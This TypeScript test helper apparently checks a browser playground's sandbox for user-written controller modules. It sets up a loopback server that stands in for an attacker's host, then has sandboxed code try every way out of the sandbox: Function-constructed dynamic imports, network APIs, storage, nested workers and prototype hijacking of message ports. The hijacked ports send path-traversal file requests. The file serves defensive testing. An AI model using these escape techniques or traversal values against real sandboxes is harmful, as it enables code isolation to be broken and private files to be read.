import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll } from 'vitest';
import { playground } from './page.ts';

/** A server of another origin on loopback, as an attacker's would be: it counts every connection made to it. */
export async function spyServer(): Promise<{ url: string; connections: number; close(): Promise<void> }> {
  const server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('export default 1;\n'));
  const s = { url: '', connections: 0, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
  server.on('connection', () => s.connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  s.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return s;
}

/** The playground's relay and browser, and a spy server, for a test file: started before its tests, closed after. */
export function playgroundAndSpy(): { env: Awaited<ReturnType<typeof playground>>; spy: Awaited<ReturnType<typeof spyServer>> } {
  const t = {} as ReturnType<typeof playgroundAndSpy>;
  beforeAll(async () => {
    t.env = await playground();
    t.spy = await spyServer();
  });
  afterAll(async () => {
    await t.spy.close();
    await t.env.close();
  });
  return t;
}

/** What the page's own origin holds in storage: IndexedDB databases, Cache Storage caches, localStorage keys. */
export const storageOf = (page: Page) =>
  page.evaluate(async () => ({ databases: (await indexedDB.databases()).map((d) => d.name), caches: await caches.keys(), local: Object.keys(localStorage).sort() }));

/**
 * The ways out a script in a worker might try, each an expression that settles once the attempt is
 * answered: it resolves if it got through (a response, an open socket, a database) and rejects when the
 * browser refused. `T` is the URL of a server the test runs on loopback, counting the connections it gets.
 * None uses `import(…)` as written: the controller's parse refuses it before anything runs.
 */
const ATTEMPTS: { name: string; code: string }[] = [
  { name: 'import() compiled in a promise callback', code: 'fromPromise' },
  {
    name: 'Function with Error.stackTraceLimit = 0',
    code: `(async () => { Error.stackTraceLimit = 0; try { return await Function('return import("' + T + '/stack-limit.js")')(); } finally { Error.stackTraceLimit = 10; } })()`,
  },
  { name: 'eval', code: `(async () => eval('1'))()` },
  { name: 'fetch', code: `fetch(T + '/fetch')` },
  { name: 'XMLHttpRequest', code: `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = () => no(new Error('error event')); x.open('GET', T + '/xhr'); x.send(); })` },
  { name: 'WebSocket', code: `new Promise((ok, no) => { const s = new WebSocket(T.replace('http', 'ws') + '/ws'); s.onopen = ok; s.onerror = () => no(new Error('error event')); })` },
  { name: 'EventSource', code: `new Promise((ok, no) => { const s = new EventSource(T + '/events'); s.onopen = ok; s.onerror = () => no(new Error('error event')); })` },
  { name: 'importScripts', code: `(async () => importScripts(T + '/import-scripts.js'))()` },
  { name: 'navigator.sendBeacon', code: `(async () => navigator.sendBeacon(T + '/beacon') || Promise.reject(new Error('refused')))()` },
  {
    name: 'a worker of its own that fetches',
    code: `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + T + '/nested").then(() => postMessage("got out"), (e) => postMessage(e.name))'], { type: 'text/javascript' }))); w.onmessage = (e) => (e.data === 'got out' ? ok() : no(new Error('its fetch: ' + e.data))); w.onerror = () => no(new Error('error event')); })`,
  },
  { name: 'IndexedDB', code: `new Promise((ok, no) => { const r = indexedDB.open('escape'); r.onsuccess = ok; r.onerror = () => no(new Error('error event')); })` },
  { name: 'Cache Storage', code: `(async () => caches.open('escape'))()` },
  { name: 'localStorage', code: `(async () => localStorage.setItem('escape', '1'))()` },
  { name: 'the origin private file system', code: `(async () => navigator.storage.getDirectory())()` },
  { name: 'WebAssembly', code: `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))` },
  { name: 'the parent page', code: `(async () => self.parent.postMessage('escape', '*'))()` },
];

/**
 * The escape as it was found: made as the script starts, outside any function, so that no frame of the
 * script (not even an awaiting one) is on the stack when the promise calls Function.
 */
const FROM_PROMISE = `const fromPromise = Promise.resolve('return import("' + T + '/promise-function.js")').then(Function).then((f) => f());
fromPromise.catch(() => {});`;

/** The attempts as one object of async functions, in the text of a script. */
const attemptsSource = () => `{\n${ATTEMPTS.map((a) => `  ${JSON.stringify(a.name)}: () => ${a.code},`).join('\n')}\n}`;

/** What became of each attempt: the refusal's name (the error's), or "got out". */
const OUTCOMES = `async function outcomes(attempts) {
  const out = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      out[name] = 'got out';
    } catch (e) {
      out[name] = e.message === 'error event' ? 'error event' : e.name + (e.message.startsWith('its fetch') ? ' (' + e.message + ')' : '');
    }
  }
  return out;
}`;

export const ATTEMPT_NAMES = ATTEMPTS.map((a) => a.name);

/** A classic worker's script that makes every attempt when told the server's URL, and posts what became of each. */
export const RAW_WORKER = `${OUTCOMES}
onmessage = async (e) => {
  const T = e.data;
  ${FROM_PROMISE}
  postMessage(await outcomes(${attemptsSource()}));
};`;

/**
 * A controller module (a fixed window of `w`) whose body makes every attempt, and more of its own kind:
 * it tries to catch the port the page talks to its worker on (by a method or getter of the ports' and
 * events' own, which would be called on it), through which it would ask the page for files that are no
 * bundled trace, and orders the sandbox frame to stop a worker. It loads only if no attempt got anything
 * back. Its callbacks may make them all again with `outcomes(attempts())`.
 */
export const escapingController = (target: string, w: number) => `const T = ${JSON.stringify(target)};
${FROM_PROMISE}
${OUTCOMES}
const attempts = () => (${attemptsSource()});
const catches = {
  'a port method': () => {
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (m, transfer) {
      send.call(this, { id: 0, kind: 'need-trace', name: '../index.html' });
      send.call(this, { id: 0, kind: 'need-trace', name: 'Verizon-LTE-short.down/../../sandbox.html' });
      return send.call(this, m, transfer);
    };
  },
  "a message's data getter": () => Object.defineProperty(MessageEvent.prototype, 'data', { get() { return null; } }),
  "an event's target getter": () => Object.defineProperty(Event.prototype, 'target', { get() { return null; } }),
  'a listener method': () => { EventTarget.prototype.addEventListener = () => {}; },
};
const caught = Object.entries(catches).filter(([, f]) => { try { f(); return true; } catch { return false; } });
self.postMessage({ kind: 'stop', id: 1 });
const got = [...caught.map(([name]) => [name, 'got out']), ...Object.entries(await outcomes(attempts()))].filter(([, o]) => o === 'got out');
if (got.length > 0) throw new Error('got out: ' + got.map(([name]) => name).join(', '));
export default {
  title: 'Tries every escape',
  params: [{ name: 'w', unit: 'packets', min: 1, max: 50, step: 1, default: ${w}, doc: 'Packets in flight' }],
  create(p) {
    return { windowSize() { return p.w; }, onAck(ack) {}, onTimeout(now) {} };
  },
};
`;
